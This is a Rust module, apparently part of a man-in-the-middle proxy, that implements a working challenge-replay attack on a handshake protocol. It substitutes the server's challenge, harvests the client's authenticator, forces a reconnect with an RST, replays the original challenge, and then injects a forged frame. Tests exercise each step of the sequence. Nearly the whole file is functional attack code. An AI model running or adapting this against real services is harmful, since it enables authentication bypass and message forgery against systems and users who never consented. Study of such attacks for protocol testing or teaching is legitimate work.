//! # Handshake Interception State Machine
//!
//! Orchestrates the challenge-replay authentication attack across
//! connections. The protocol under attack authenticates a client by
//! having the server send a challenge (`#CHALLENGE#...`) and checking the
//! client's keyed response. Because the authenticator is computed over a
//! challenge the proxy chooses, the attack goes:
//!
//! 1. Replace the server's challenge with attacker-chosen bytes, harvest
//!    the client's response to them.
//! 2. Tear the connection down with a TCP RST so both ends re-handshake.
//! 3. On the reconnect, replay the server's *original* challenge to the
//!    client so authentication completes legitimately.
//! 4. Once the server says `#WELCOME#`, smuggle a forged payload carrying
//!    the harvested authenticator onto the server-bound stream.
//!
//! The machine is process-wide by design: the attack spans the tear-down
//! and a fresh accept, so its state must outlive any single connection.
//! Every transition happens under one mutex, making transitions
//! linearizable; the critical section includes the substitute/inject
//! socket writes so no other forwarder can interleave a message between a
//! transition and the bytes it emits.

use std::fmt;
use std::sync::Arc;
use tokio::io::{AsyncWrite, AsyncWriteExt};
use tokio::sync::Mutex;
use tracing::{info, warn};

use crate::codec::{Frame, FRAME_HEADER_LEN};

/// Handshake marker prefixes, as they appear at the start of text payloads.
pub const CHALLENGE_MARKER: &str = "#CHALLENGE#";
pub const WELCOME_MARKER: &str = "#WELCOME#";

/// Which leg of a flow a forwarder serves, derived from the outer
/// addresses: the leg from the original destination back to the captured
/// client is `ServerToClient`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Leg {
    ClientToServer,
    ServerToClient,
}

impl fmt::Display for Leg {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Leg::ClientToServer => write!(f, "client->server"),
            Leg::ServerToClient => write!(f, "server->client"),
        }
    }
}

/// Attack configuration distilled from the `attack_mode` config section.
#[derive(Debug, Clone, Default)]
pub struct MitmConfig {
    pub enabled: bool,
    /// The substitute challenge, also the body of the final injection.
    pub payload: Vec<u8>,
    /// Emit per-event MITM log lines.
    pub log: bool,
}

/// Attack phases. See the module docs for the sequence.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Phase {
    Idle,
    WaitingHmac,
    WaitingReconnect,
    WaitingWelcome,
    ReadyForInjection,
    Done,
}

impl fmt::Display for Phase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            Phase::Idle => "idle",
            Phase::WaitingHmac => "waiting_hmac",
            Phase::WaitingReconnect => "waiting_reconnect",
            Phase::WaitingWelcome => "waiting_welcome",
            Phase::ReadyForInjection => "ready_for_injection",
            Phase::Done => "done",
        };
        write!(f, "{name}")
    }
}

/// What the forwarder does with the message after the machine saw it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MitmVerdict {
    /// Run the regular rule pipeline and forward as it decides.
    Pass,
    /// The machine consumed the message; skip the rule pipeline and do
    /// not relay the original bytes.
    Suppress,
    /// Tear the connection down with an RST.
    TearDown,
}

#[derive(Debug)]
struct State {
    phase: Phase,
    stored_challenge: Option<Vec<u8>>,
    stored_authenticator: Option<Vec<u8>>,
    injected: bool,
    connection_count: u64,
    message_count: u64,
}

impl State {
    fn new() -> Self {
        Self {
            phase: Phase::Idle,
            stored_challenge: None,
            stored_authenticator: None,
            injected: false,
            connection_count: 0,
            message_count: 0,
        }
    }
}

/// The process-wide machine. One instance is created at startup and a
/// reference handed to every forwarder.
pub struct MitmMachine {
    config: MitmConfig,
    state: Mutex<State>,
}

impl MitmMachine {
    pub fn new(config: MitmConfig) -> Arc<Self> {
        if config.enabled && config.log {
            info!(
                payload_bytes = config.payload.len(),
                "MITM attack mode enabled"
            );
        }
        Arc::new(Self {
            config,
            state: Mutex::new(State::new()),
        })
    }

    /// A machine that passes everything through, for runs with the attack
    /// disabled.
    pub fn disabled() -> Arc<Self> {
        Self::new(MitmConfig::default())
    }

    pub fn enabled(&self) -> bool {
        self.config.enabled
    }

    /// Whether the forged payload has been written this run.
    pub async fn injected(&self) -> bool {
        self.state.lock().await.injected
    }

    pub async fn phase(&self) -> Phase {
        self.state.lock().await.phase
    }

    /// Restore the idle phase and drop captured material. Only invoked
    /// explicitly; connection churn caused by the attack itself must not
    /// reset the machine.
    pub async fn reset(&self) {
        let mut state = self.state.lock().await;
        *state = State::new();
        if self.config.log {
            info!(phase = %state.phase, event = "reset", "MITM");
        }
    }

    /// Feed one decoded message through the machine.
    ///
    /// `writer` is the peer-bound writer of the forwarder that decoded the
    /// message: client-bound on the server→client leg, server-bound on
    /// the client→server leg. Substituted challenges and the final
    /// injection go out through it, under the state lock, so transition
    /// and emission are atomic with respect to other forwarders.
    pub async fn process_message<W>(
        &self,
        leg: Leg,
        frame: &Frame,
        writer: &mut W,
    ) -> std::io::Result<MitmVerdict>
    where
        W: AsyncWrite + Unpin,
    {
        if !self.config.enabled {
            return Ok(MitmVerdict::Pass);
        }

        let mut state = self.state.lock().await;
        state.message_count += 1;

        let text = frame.decoded.text();
        let is_challenge = text.is_some_and(|t| t.starts_with(CHALLENGE_MARKER));
        let is_welcome = text.is_some_and(|t| t.starts_with(WELCOME_MARKER));

        match state.phase {
            Phase::Idle => {
                if leg == Leg::ServerToClient && is_challenge {
                    state.stored_challenge = Some(frame.raw.clone());
                    state.connection_count += 1;
                    state.phase = Phase::WaitingHmac;
                    if self.config.log {
                        info!(
                            phase = %state.phase,
                            event = "challenge_captured",
                            connection = state.connection_count,
                            bytes = frame.raw.len(),
                            raw = %hex_preview(&frame.raw, 100),
                            "MITM"
                        );
                    }
                    if self.config.payload.is_empty() {
                        warn!("no malicious challenge configured; sending nothing in its place");
                    } else {
                        writer.write_all(&self.config.payload).await?;
                        writer.flush().await?;
                    }
                    return Ok(MitmVerdict::Suppress);
                }
                Ok(MitmVerdict::Pass)
            }
            Phase::WaitingHmac => {
                if leg == Leg::ClientToServer && !is_challenge && !is_welcome {
                    state.stored_authenticator = Some(frame.raw.clone());
                    state.phase = Phase::WaitingReconnect;
                    if self.config.log {
                        info!(
                            phase = %state.phase,
                            event = "authenticator_captured",
                            bytes = frame.raw.len(),
                            raw = %hex_preview(&frame.raw, 100),
                            "MITM"
                        );
                    }
                    return Ok(MitmVerdict::TearDown);
                }
                Ok(MitmVerdict::Pass)
            }
            Phase::WaitingReconnect => {
                // A challenge is always stored before this phase is
                // reachable; treat its absence as a plain pass.
                if leg == Leg::ServerToClient && is_challenge {
                    if let Some(challenge) = state.stored_challenge.clone() {
                        writer.write_all(&challenge).await?;
                        writer.flush().await?;
                        state.phase = Phase::WaitingWelcome;
                        if self.config.log {
                            info!(
                                phase = %state.phase,
                                event = "challenge_replayed",
                                bytes = challenge.len(),
                                "MITM"
                            );
                        }
                        return Ok(MitmVerdict::Suppress);
                    }
                }
                Ok(MitmVerdict::Pass)
            }
            Phase::WaitingWelcome => {
                if leg == Leg::ServerToClient && is_welcome {
                    state.phase = Phase::ReadyForInjection;
                    if self.config.log {
                        info!(phase = %state.phase, event = "welcome_seen", "MITM");
                    }
                }
                Ok(MitmVerdict::Pass)
            }
            Phase::ReadyForInjection => {
                if leg == Leg::ClientToServer && !state.injected {
                    if let Some(auth) = state.stored_authenticator.as_deref() {
                        let injection = frame_injection(&self.config.payload, auth);
                        writer.write_all(&injection).await?;
                        writer.flush().await?;
                        state.injected = true;
                        state.phase = Phase::Done;
                        if self.config.log {
                            info!(
                                phase = %state.phase,
                                event = "payload_injected",
                                bytes = injection.len(),
                                "MITM"
                            );
                        }
                    }
                }
                Ok(MitmVerdict::Pass)
            }
            Phase::Done => Ok(MitmVerdict::Pass),
        }
    }
}

/// The forged frame: a freshly computed big-endian length over
/// `payload ‖ authenticator_payload`, then the two bodies. The stored
/// authenticator is a complete frame, so its own prefix is stripped.
fn frame_injection(payload: &[u8], authenticator_frame: &[u8]) -> Vec<u8> {
    let auth_body = authenticator_frame
        .get(FRAME_HEADER_LEN..)
        .unwrap_or_default();
    let total = payload.len() + auth_body.len();
    let mut out = Vec::with_capacity(FRAME_HEADER_LEN + total);
    out.extend_from_slice(&(total as u32).to_be_bytes());
    out.extend_from_slice(payload);
    out.extend_from_slice(auth_body);
    out
}

/// Bounded hex preview for attack log lines.
pub fn hex_preview(data: &[u8], max: usize) -> String {
    let mut s: String = data.iter().take(max).map(|b| format!("{b:02x}")).collect();
    if data.len() > max {
        s.push_str("...");
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::codec::FrameDecoder;

    fn framed(payload: &[u8]) -> Vec<u8> {
        let mut out = (payload.len() as u32).to_be_bytes().to_vec();
        out.extend_from_slice(payload);
        out
    }

    fn frame_of(payload: &[u8]) -> Frame {
        FrameDecoder::new()
            .append(&framed(payload))
            .unwrap()
            .into_iter()
            .next()
            .unwrap()
    }

    fn machine() -> Arc<MitmMachine> {
        MitmMachine::new(MitmConfig {
            enabled: true,
            payload: b"#CHALLENGE#EVIL".to_vec(),
            log: false,
        })
    }

    #[tokio::test]
    async fn disabled_machine_passes_everything() {
        let m = MitmMachine::disabled();
        let mut sink = Vec::new();
        let verdict = m
            .process_message(Leg::ServerToClient, &frame_of(b"#CHALLENGE#ABC"), &mut sink)
            .await
            .unwrap();
        assert_eq!(verdict, MitmVerdict::Pass);
        assert!(sink.is_empty());
    }

    #[tokio::test]
    async fn full_attack_sequence() {
        let m = machine();

        // (a) Server challenge: suppressed, substitute written client-ward.
        let mut to_client = Vec::new();
        let original_challenge = frame_of(b"#CHALLENGE#ABC");
        let verdict = m
            .process_message(Leg::ServerToClient, &original_challenge, &mut to_client)
            .await
            .unwrap();
        assert_eq!(verdict, MitmVerdict::Suppress);
        assert_eq!(to_client, b"#CHALLENGE#EVIL");
        assert_eq!(m.phase().await, Phase::WaitingHmac);

        // (b) Client response to the substitute: captured, tear-down.
        let mut to_server = Vec::new();
        let auth = frame_of(b"AUTH1");
        let verdict = m
            .process_message(Leg::ClientToServer, &auth, &mut to_server)
            .await
            .unwrap();
        assert_eq!(verdict, MitmVerdict::TearDown);
        assert!(to_server.is_empty());
        assert_eq!(m.phase().await, Phase::WaitingReconnect);

        // (d) Fresh connection, new server challenge: original replayed.
        let mut to_client = Vec::new();
        let verdict = m
            .process_message(Leg::ServerToClient, &frame_of(b"#CHALLENGE#XYZ"), &mut to_client)
            .await
            .unwrap();
        assert_eq!(verdict, MitmVerdict::Suppress);
        assert_eq!(to_client, original_challenge.raw);
        assert_eq!(m.phase().await, Phase::WaitingWelcome);

        // (e) Welcome passes through and arms the injection.
        let mut to_client = Vec::new();
        let verdict = m
            .process_message(Leg::ServerToClient, &frame_of(b"#WELCOME#"), &mut to_client)
            .await
            .unwrap();
        assert_eq!(verdict, MitmVerdict::Pass);
        assert!(to_client.is_empty());
        assert_eq!(m.phase().await, Phase::ReadyForInjection);

        // (f) Next client->server slot: forged frame precedes the message.
        let mut to_server = Vec::new();
        let verdict = m
            .process_message(Leg::ClientToServer, &frame_of(b"anything"), &mut to_server)
            .await
            .unwrap();
        assert_eq!(verdict, MitmVerdict::Pass);

        let body = [&b"#CHALLENGE#EVIL"[..], &b"AUTH1"[..]].concat();
        let mut expected = (body.len() as u32).to_be_bytes().to_vec();
        expected.extend_from_slice(&body);
        assert_eq!(to_server, expected);
        assert!(m.injected().await);
        assert_eq!(m.phase().await, Phase::Done);
    }

    #[tokio::test]
    async fn injection_happens_at_most_once() {
        let m = machine();
        let mut sink = Vec::new();

        m.process_message(Leg::ServerToClient, &frame_of(b"#CHALLENGE#A"), &mut sink)
            .await
            .unwrap();
        m.process_message(Leg::ClientToServer, &frame_of(b"AUTH"), &mut sink)
            .await
            .unwrap();
        m.process_message(Leg::ServerToClient, &frame_of(b"#CHALLENGE#B"), &mut sink)
            .await
            .unwrap();
        m.process_message(Leg::ServerToClient, &frame_of(b"#WELCOME#"), &mut sink)
            .await
            .unwrap();

        let mut first = Vec::new();
        m.process_message(Leg::ClientToServer, &frame_of(b"m1"), &mut first)
            .await
            .unwrap();
        assert!(!first.is_empty());

        // Every later message, on either leg, is forwarded unchanged.
        for _ in 0..3 {
            let mut later = Vec::new();
            let verdict = m
                .process_message(Leg::ClientToServer, &frame_of(b"m"), &mut later)
                .await
                .unwrap();
            assert_eq!(verdict, MitmVerdict::Pass);
            assert!(later.is_empty());
        }
    }

    #[tokio::test]
    async fn client_challenge_or_welcome_does_not_count_as_authenticator() {
        let m = machine();
        let mut sink = Vec::new();
        m.process_message(Leg::ServerToClient, &frame_of(b"#CHALLENGE#A"), &mut sink)
            .await
            .unwrap();

        // Markers on the client leg are passed, not captured.
        for payload in [&b"#CHALLENGE#A"[..], &b"#WELCOME#"[..]] {
            let verdict = m
                .process_message(Leg::ClientToServer, &frame_of(payload), &mut sink)
                .await
                .unwrap();
            assert_eq!(verdict, MitmVerdict::Pass);
        }
        assert_eq!(m.phase().await, Phase::WaitingHmac);

        // Server-leg traffic in waiting_hmac is also passed through.
        let verdict = m
            .process_message(Leg::ServerToClient, &frame_of(b"noise"), &mut sink)
            .await
            .unwrap();
        assert_eq!(verdict, MitmVerdict::Pass);
    }

    #[tokio::test]
    async fn reset_returns_to_idle() {
        let m = machine();
        let mut sink = Vec::new();
        m.process_message(Leg::ServerToClient, &frame_of(b"#CHALLENGE#A"), &mut sink)
            .await
            .unwrap();
        assert_eq!(m.phase().await, Phase::WaitingHmac);
        m.reset().await;
        assert_eq!(m.phase().await, Phase::Idle);
        assert!(!m.injected().await);
    }

    #[test]
    fn hex_preview_truncates() {
        assert_eq!(hex_preview(&[0xde, 0xad], 4), "dead");
        assert_eq!(hex_preview(&[0xaa; 5], 2), "aaaa...");
    }
}
